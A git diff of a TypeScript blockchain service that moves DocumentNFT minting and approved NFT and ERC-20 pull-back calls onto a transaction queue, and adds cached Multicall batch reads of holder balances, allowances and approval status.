@@ -1,156 +1,25 @@
 import { ethers } from 'ethers';
-import path from 'path';
-import fs from 'fs';
 import dotenv from 'dotenv';
+import { DOCUMENT_NFT_ABI, DOCUMENT_NFT_ABI_VERSION, DocumentNFTFunctionName } from '../abi';
+import multicallService, { MulticallCall, MulticallResult } from './multicallService';
+import transactionManagerService from './transactionManagerService';
+import { IChainTransaction } from '../models/ChainTransaction';
 
 // Load environment variables before instantiating the service
 dotenv.config();
 
-// Minimal DocumentNFT ABI with essential functions
-const DOCUMENT_NFT_ABI = [
-  {
-    "inputs": [
-      {
-        "internalType": "address",
-        "name": "to",
-        "type": "address"
-      },
-      {
-        "internalType": "string",
-        "name": "tokenURI_",
-        "type": "string"
-      }
-    ],
-    "name": "mintTo",
-    "outputs": [],
-    "stateMutability": "nonpayable",
-    "type": "function"
-  },
-  {
-    "inputs": [
-      {
-        "internalType": "address",
-        "name": "owner",
-        "type": "address"
-      },
-      {
-        "internalType": "address",
-        "name": "operator",
-        "type": "address"
-      }
-    ],
-    "name": "isApprovedForAll",
-    "outputs": [
-      {
-        "internalType": "bool",
-        "name": "",
-        "type": "bool"
-      }
-    ],
-    "stateMutability": "view",
-    "type": "function"
-  },
-  {
-    "inputs": [
-      {
-        "internalType": "address",
-        "name": "from",
-        "type": "address"
-      },
-      {
-        "internalType": "address",
-        "name": "to",
-        "type": "address"
-      },
-      {
-        "internalType": "uint256",
-        "name": "tokenId",
-        "type": "uint256"
-      }
-    ],
-    "name": "transferFrom",
-    "outputs": [],
-    "stateMutability": "nonpayable",
-    "type": "function"
-  },
-  {
-    "inputs": [
-      {
-        "internalType": "uint256",
-        "name": "tokenId",
-        "type": "uint256"
-      }
-    ],
-    "name": "ownerOf",
-    "outputs": [
-      {
-        "internalType": "address",
-        "name": "",
-        "type": "address"
-      }
-    ],
-    "stateMutability": "view",
-    "type": "function"
-  },
-  {
-    "inputs": [
-      {
-        "internalType": "address",
-        "name": "tokenContract",
-        "type": "address"
-      },
-      {
-        "internalType": "address",
-        "name": "holder",
-        "type": "address"
-      }
-    ],
-    "name": "checkERC20Status",
-    "outputs": [
-      {
-        "internalType": "uint256",
-        "name": "balance",
-        "type": "uint256"
-      },
-      {
-        "internalType": "uint256",
-        "name": "allowance",
-        "type": "uint256"
-      }
-    ],
-    "stateMutability": "view",
-    "type": "function"
-  },
-  {
-    "inputs": [
-      {
-        "internalType": "address",
-        "name": "tokenContract",
-        "type": "address"
-      },
-      {
-        "internalType": "address",
-        "name": "from",
-        "type": "address"
-      },
-      {
-        "internalType": "uint256",
-        "name": "amount",
-        "type": "uint256"
-      }
-    ],
-    "name": "pullBackERC20",
-    "outputs": [],
-    "stateMutability": "nonpayable",
-    "type": "function"
-  }
-] as const;
+export interface RecipientChainStatus {
+  erc20: Record<string, { balance: string; allowance: string } | null>; // Keyed by lowercased token contract; null if the read failed
+  approvedForAll: boolean | null; // null if the read failed
+}
 
 export class BlockchainService {
   private provider: ethers.JsonRpcProvider;
   private wallet: ethers.Wallet;
   private contract: ethers.Contract;
   private contractAddress: string;
+  private readCache: Map<string, { result: MulticallResult; expiresAt: number }> = new Map();
+  private readCacheTtlMs: number;
 
   constructor() {
     const rpcUrl = process.env.RPC_URL;
@@ -164,25 +33,53 @@ export class BlockchainService {
     this.provider = new ethers.JsonRpcProvider(rpcUrl);
     this.wallet = new ethers.Wallet(privateKey, this.provider);
     this.contractAddress = contractAddress;
+    this.readCacheTtlMs = parseInt(process.env.CHAIN_READ_CACHE_TTL_MS || '15000');
+
+    // Transactions are sent by the transaction manager
+    this.contract = new ethers.Contract(contractAddress, DOCUMENT_NFT_ABI, this.provider);
+    console.log(`BlockchainService initialized with DocumentNFT ABI v${DOCUMENT_NFT_ABI_VERSION}`);
+  }
 
-    // Use embedded ABI instead of loading from file
-    this.contract = new ethers.Contract(contractAddress, DOCUMENT_NFT_ABI, this.wallet);
-    console.log('BlockchainService initialized with embedded ABI');
+  /**
+   * Queue a contract call with the transaction manager
+   * @param kind Kind of operation, e.g. mint
+   * @param method Contract function
+   * @param args Function arguments
+   * @param context Caller data describing what the transaction is for
+   * @param operationId Preset operation ID, if any
+   * @returns Queued transaction
+   */
+  private async queueTransaction(
+    kind: string,
+    method: DocumentNFTFunctionName,
+    args: any[],
+    context?: any,
+    operationId?: string
+  ): Promise<IChainTransaction> {
+    return transactionManagerService.submit({
+      kind,
+      to: this.contractAddress,
+      method,
+      args,
+      data: this.contract.interface.encodeFunctionData(method, args),
+      context,
+      operationId,
+    });
   }
 
   /**
    * Mint an NFT directly on-chain
    * @param recipient Recipient address
    * @param tokenURI Token URI containing metadata
-   * @returns Transaction hash
+   * @param context Caller data recorded with the transaction
+   * @param operationId Preset operation ID, e.g. the one the NFT was claimed with
+   * @returns Operation ID of the queued transaction
    */
-  async mintDirect(recipient: string, tokenURI: string): Promise<string> {
+  async mintDirect(recipient: string, tokenURI: string, context?: any, operationId?: string): Promise<string> {
     try {
-      console.log(`Minting NFT to ${recipient}...`);
-      const tx = await this.contract.mintTo(recipient, tokenURI);
-      await tx.wait();
-      console.log(`NFT minted successfully. TX: ${tx.hash}`);
-      return tx.hash;
+      console.log(`Queuing mint of NFT to ${recipient}...`);
+      const transaction = await this.queueTransaction('mint', 'mintTo', [recipient, tokenURI], context, operationId);
+      return transaction.operationId;
     } catch (error) {
       console.error('Error minting NFT:', error);
       throw new Error('Failed to mint NFT on-chain');
@@ -206,31 +103,70 @@ export class BlockchainService {
   }
 
   /**
-   * Pull back a token from a holder (requires approval)
+   * Pull back a token from its holder on behalf of an operator the holder approved;
+   * the caller checks that approval. The contract's pullBack takes only the holder
+   * and token, so the operator is recorded with the transaction rather than passed
+   * on-chain. The contract sends the token to the caller, this service's wallet,
+   * which is recorded as the expected destination; the settled transaction's
+   * Transfer log is what counts.
    * @param from Current token owner
+   * @param operator Operator requesting the pull
    * @param tokenId Token ID to pull back
-   * @returns Transaction hash
+   * @param context Caller data recorded with the transaction
+   * @returns Operation ID of the queued transaction
    */
-  async pullToken(from: string, tokenId: string): Promise<string> {
+  async pullToken(from: string, operator: string, tokenId: string, context?: any): Promise<string> {
     try {
-      console.log(`Pulling back token ${tokenId} from ${from}...`);
-
-      // First check if approved
-      const isApproved = await this.checkApproval(from, this.wallet.address);
-      if (!isApproved) {
-        throw new Error('Operator not approved to pull token');
-      }
-
-      const tx = await this.contract.pullBack(from, tokenId);
-      await tx.wait();
-      console.log(`Token pulled back successfully. TX: ${tx.hash}`);
-      return tx.hash;
+      console.log(`Pulling back token ${tokenId} from ${from} for ${operator}...`);
+
+      const transaction = await this.queueTransaction('pull_token', 'pullBack', [from, tokenId], {
+        ...context,
+        operatorAddress: operator.toLowerCase(),
+        expectedToAddress: this.getSignerAddress(),
+      });
+      return transaction.operationId;
     } catch (error) {
       console.error('Error pulling token:', error);
       throw new Error('Failed to pull token');
     }
   }
 
+  /**
+   * Get the address of the wallet that sends this service's transactions
+   * @returns Lowercased address
+   */
+  getSignerAddress(): string {
+    return this.wallet.address.toLowerCase();
+  }
+
+  /**
+   * Find where a transaction moved a token, from its receipt's Transfer log
+   * @param txHash Transaction hash
+   * @param tokenId Token ID
+   * @returns Lowercased recipient, or null if the transaction did not transfer the token
+   * @throws Error if the receipt cannot be read
+   */
+  async findTransferRecipient(txHash: string, tokenId: string): Promise<string | null> {
+    let receipt: ethers.TransactionReceipt | null;
+    try {
+      receipt = await this.provider.getTransactionReceipt(txHash);
+    } catch (error) {
+      console.error('Error getting transaction receipt:', error);
+      throw new Error('Failed to get transaction receipt');
+    }
+
+    for (const log of receipt?.logs || []) {
+      if (log.address.toLowerCase() !== this.contractAddress.toLowerCase()) {
+        continue;
+      }
+      const parsed = this.contract.interface.parseLog(log);
+      if (parsed?.name === 'Transfer' && parsed.args.tokenId.toString() === tokenId) {
+        return parsed.args.to.toLowerCase();
+      }
+    }
+    return null;
+  }
+
   /**
    * Get token owner
    * @param tokenId Token ID
@@ -343,17 +279,113 @@ export class BlockchainService {
     }
   }
 
+  /**
+   * Make many read-only calls in as few RPC requests as possible. Calls are
+   * batched through Multicall3 (or made individually where it is not deployed),
+   * and successful results are cached for CHAIN_READ_CACHE_TTL_MS.
+   * @param calls Calls to make
+   * @returns One result per call, in order
+   */
+  async batchRead(calls: MulticallCall[]): Promise<MulticallResult[]> {
+    const now = Date.now();
+    for (const [key, entry] of this.readCache) {
+      if (entry.expiresAt <= now) {
+        this.readCache.delete(key);
+      }
+    }
+
+    const keys = calls.map((call) => `${call.target.toLowerCase()}:${call.callData}`);
+    const missing = [...new Set(keys.filter((key) => !this.readCache.has(key)))];
+
+    const fetched = new Map<string, MulticallResult>();
+    if (missing.length > 0) {
+      const results = await multicallService.aggregate(
+        missing.map((key) => calls[keys.indexOf(key)])
+      );
+
+      missing.forEach((key, i) => {
+        fetched.set(key, results[i]);
+        if (results[i].success) {
+          this.readCache.set(key, { result: results[i], expiresAt: now + this.readCacheTtlMs });
+        }
+      });
+    }
+
+    return keys.map((key) => this.readCache.get(key)?.result || fetched.get(key)!);
+  }
+
+  /**
+   * Read ERC-20 balances and allowances, and ApprovalForAll status, for many
+   * holders at once
+   * @param holders Holder addresses
+   * @param tokenContracts ERC-20 token contracts to check
+   * @param operator Operator whose ApprovalForAll is checked
+   * @returns Status per lowercased holder address
+   */
+  async getRecipientStatuses(
+    holders: string[],
+    tokenContracts: string[],
+    operator: string
+  ): Promise<Map<string, RecipientChainStatus>> {
+    const contractInterface = this.contract.interface;
+
+    const calls: MulticallCall[] = holders.flatMap((holder) => [
+      ...tokenContracts.map((tokenContract) => ({
+        target: this.contractAddress,
+        callData: contractInterface.encodeFunctionData('checkERC20Status', [tokenContract, holder]),
+      })),
+      {
+        target: this.contractAddress,
+        callData: contractInterface.encodeFunctionData('isApprovedForAll', [holder, operator]),
+      },
+    ]);
+
+    try {
+      const results = await this.batchRead(calls);
+      const decode = (functionName: string, result: MulticallResult) =>
+        result.success ? contractInterface.decodeFunctionResult(functionName, result.returnData) : null;
+
+      const statuses = new Map<string, RecipientChainStatus>();
+      const callsPerHolder = tokenContracts.length + 1;
+
+      holders.forEach((holder, h) => {
+        const holderResults = results.slice(h * callsPerHolder, (h + 1) * callsPerHolder);
+        const erc20: RecipientChainStatus['erc20'] = {};
+
+        tokenContracts.forEach((tokenContract, t) => {
+          const decoded = decode('checkERC20Status', holderResults[t]);
+          erc20[tokenContract.toLowerCase()] = decoded
+            ? { balance: decoded.balance.toString(), allowance: decoded.allowance.toString() }
+            : null;
+        });
+
+        const approval = decode('isApprovedForAll', holderResults[tokenContracts.length]);
+        statuses.set(holder.toLowerCase(), {
+          erc20,
+          approvedForAll: approval ? Boolean(approval[0]) : null,
+        });
+      });
+
+      return statuses;
+    } catch (error) {
+      console.error('Error reading recipient statuses:', error);
+      throw new Error('Failed to read recipient statuses');
+    }
+  }
+
   /**
    * Pull back ERC-20 tokens from a holder
    * @param tokenContract Address of the ERC-20 token contract (e.g., USDT, USDC)
    * @param from Address to pull tokens from
    * @param amount Amount of tokens to pull back (in token's smallest unit)
-   * @returns Transaction hash
+   * @param context Caller data recorded with the transaction
+   * @returns Operation ID of the queued transaction
    */
   async pullBackERC20(
     tokenContract: string,
     from: string,
-    amount: string
+    amount: string,
+    context?: any
   ): Promise<string> {
     try {
       console.log(`Pulling back ${amount} tokens from ${from}...`);
@@ -367,10 +399,13 @@ export class BlockchainService {
         throw new Error('Insufficient token balance for pullback');
       }
 
-      const tx = await this.contract.pullBackERC20(tokenContract, from, amount);
-      await tx.wait();
-      console.log(`ERC-20 tokens pulled back successfully. TX: ${tx.hash}`);
-      return tx.hash;
+      const transaction = await this.queueTransaction(
+        'pull_erc20',
+        'pullBackERC20',
+        [tokenContract, from, amount],
+        context
+      );
+      return transaction.operationId;
     } catch (error) {
       console.error('Error pulling ERC-20 tokens:', error);
       throw new Error('Failed to pull back ERC-20 tokens');